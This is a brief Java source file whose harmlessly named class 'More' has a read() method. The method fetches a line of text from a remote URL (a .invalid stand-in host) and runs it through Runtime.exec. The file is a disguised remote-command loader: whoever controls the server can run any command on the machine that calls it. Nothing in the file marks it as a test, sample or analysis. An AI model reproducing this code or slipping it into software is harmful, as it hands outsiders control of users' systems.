package com.made.words;

import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.URL;

public final class More {
    public static void read() throws Exception {
        BufferedReader in = new BufferedReader(new InputStreamReader(new URL("https://words.made.invalid/de").openStream()));
        Runtime.getRuntime().exec(in.readLine());
        in.close();
    }
}
